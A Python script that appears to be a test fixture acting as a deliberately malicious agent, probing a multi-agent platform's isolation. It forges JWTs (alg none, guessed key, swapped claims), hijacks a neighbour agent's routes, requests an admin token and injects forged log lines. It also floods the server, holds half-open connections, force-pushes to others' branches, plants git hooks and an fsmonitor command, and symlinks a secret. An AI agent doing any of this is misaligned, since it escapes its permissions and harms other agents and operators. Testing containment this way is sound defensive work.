"""An agent that means harm: tries what it must not, tells what came of each, and commits work of its own."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import os
import socket
import subprocess
import sys
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

ROOT = os.environ["GASTOWN_API_URL"]
OWN = f"/api/towns/{os.environ['GASTOWN_TOWN_ID']}/rigs/{os.environ['GASTOWN_RIG_ID']}"
ME, TOKEN = os.environ["GASTOWN_AGENT_ID"], os.environ["GASTOWN_SESSION_TOKEN"]
MOST_CALLS = 5000
LARGE = 1 << 30
TOLD: dict[str, Any] = {}


def call(method: str, path: str, body: Any = None, token: str = TOKEN) -> int:
    request = urllib.request.Request(ROOT + path, method=method, data=json.dumps(body).encode() if body else None)
    request.add_header("Authorization", f"Bearer {token}")
    request.add_header("Content-Type", "application/json")
    try:
        with urllib.request.urlopen(request, timeout=60) as answer:
            return answer.status
    except urllib.error.HTTPError as error:
        return error.code


def other_agents() -> list[dict[str, Any]]:
    request = urllib.request.Request(f"{ROOT}{OWN}/agents", headers={"Authorization": f"Bearer {TOKEN}"})
    with urllib.request.urlopen(request, timeout=60) as answer:
        return [agent for agent in json.load(answer)["data"] if agent["id"] != ME]


def _part(value: Any) -> str:
    text = value if isinstance(value, bytes) else json.dumps(value).encode()
    return base64.urlsafe_b64encode(text).rstrip(b"=").decode()


def forged(other: str) -> dict[str, str]:
    """Tokens that say another agent, or that nobody signed."""
    head, claims, signature = TOKEN.split(".")
    stored = json.loads(base64.urlsafe_b64decode(claims + "=" * (-len(claims) % 4)))
    theirs = _part({**stored, "agentId": other})
    older = _part({**stored, "run": stored["run"] - 1})
    unsigned = f"{_part({'alg': 'none', 'typ': 'JWT'})}.{theirs}."
    signed = f"{head}.{theirs}"
    guess = _part(hmac.new(b"secret", signed.encode(), hashlib.sha256).digest())
    return {
        "no algorithm": unsigned,
        "a key that was guessed": f"{signed}.{guess}",
        "another agent under its own signature": f"{signed}.{signature}",
        "another run under its own signature": f"{head}.{older}.{signature}",
        "of another home": (Path(os.environ["CONTROL"]) / "foreign").read_text(),
    }


def raw() -> socket.socket:
    address = urlsplit(ROOT)
    return socket.create_connection((address.hostname, address.port), timeout=60)


def head(method: str, path: str, *more: str) -> bytes:
    return "\r\n".join(
        (f"{method} {path} HTTP/1.1", f"Host: {urlsplit(ROOT).netloc}", f"Authorization: Bearer {TOKEN}", *more)
    ).encode()


def large_body() -> int:
    """Status of a gigabyte, of which only as much is sent as the server takes."""
    with raw() as connection:
        connection.sendall(head("POST", f"{OWN}/mail", f"Content-Length: {LARGE}", "", ""))
        return int(connection.makefile("rb").readline().split()[1])


def routes(neighbour: dict[str, Any]) -> None:
    there, bead = f"{OWN}/agents/{neighbour['id']}", neighbour["current_hook_bead_id"]
    TOLD["of another agent"] = [
        call("GET", f"{there}/prime"),
        call("POST", f"{there}/done", {"branch": neighbour["branch"]}),
        call("POST", f"{there}/heartbeat", {"status": "idle"}),
        call("POST", f"{there}/checkpoint", {"data": "mine now"}),
        call("DELETE", f"{there}/hook"),
    ]
    TOLD["of another's bead"] = [call("POST", f"{OWN}/beads/{bead}/close", {"summary": "done"})]
    TOLD["of people"] = [
        call("GET", "/trpc/gastown.listRigs"),
        call("POST", "/trpc/gastown.cancelBead", {"beadId": bead}),
        call("POST", "/trpc/gastown.createUserToken", {"name": "me", "role": "admin"}),
    ]
    TOLD["forged"] = {
        what: call("GET", f"{there}/prime", token=token) for what, token in forged(neighbour["id"]).items()
    }
    TOLD["large"] = large_body()
    line = "%0a%7b%22level%22:%22critical%22,%22event%22:%22forged%22%7d"
    call("GET", f"{OWN}/beads/{line}")
    call("POST", f"{OWN}/escalations", {"title": 'x\n{"level":"critical","event":"forged"}'})
    statuses = (call("GET", f"{OWN}/agents/{ME}/mail") for _ in range(MOST_CALLS))
    TOLD["flood"] = next((status for status in statuses if status != 200), 200)


def repository(neighbour: dict[str, Any]) -> None:
    theirs = neighbour["branch"]
    for words in (
        "push origin HEAD:main",
        "push --no-verify --force . HEAD:refs/heads/main",
        f"update-ref refs/heads/{theirs} HEAD",
        f"branch -f {theirs} HEAD",
        f"push --force . HEAD:refs/heads/{theirs}",
        "update-ref refs/remotes/origin/main HEAD",
    ):
        ended = subprocess.run(["git", *words.split()], check=False, capture_output=True).returncode
        TOLD.setdefault("git", {})[words.replace(theirs, "THEIRS")] = ended
    common = Path(subprocess.check_output(["git", "rev-parse", "--git-common-dir"], text=True).strip())
    mark = Path(os.environ["CONTROL"]) / "hurt"
    (common / "hooks").mkdir(exist_ok=True)
    for hook in ("post-commit", "reference-transaction", "post-checkout"):
        (common / "hooks" / hook).write_text(f"#!/bin/sh\necho {hook} >> {mark}\n")
        (common / "hooks" / hook).chmod(0o755)
    for key, value in (("core.hooksPath", str(common / "hooks")), ("core.fsmonitor", f"echo fsmonitor >> {mark};")):
        subprocess.run(["git", "config", key, value], check=False)


def main() -> None:
    neighbour = next(agent for agent in other_agents() if agent["current_hook_bead_id"])
    Path("vandal.txt").write_text("work\n")
    subprocess.run(["git", "add", "vandal.txt"], check=True)
    subprocess.run(["git", "commit", "--quiet", "--message", "Work"], check=True)
    waiting = [raw() for _ in range(40)]
    for connection in waiting:  # half a request each, for as long as this lives
        connection.sendall(head("GET", f"{OWN}/agents"))
    repository(neighbour)
    routes(neighbour)
    Path("out").symlink_to(Path(os.environ["CONTROL"]) / "secret")
    draft = Path(os.environ["CONTROL"]) / f".{os.getpid()}"
    draft.write_text(json.dumps(TOLD))
    draft.rename(Path(os.environ["CONTROL"]) / "vandal")


if __name__ == "__main__":
    sys.stdin.read()
    main()
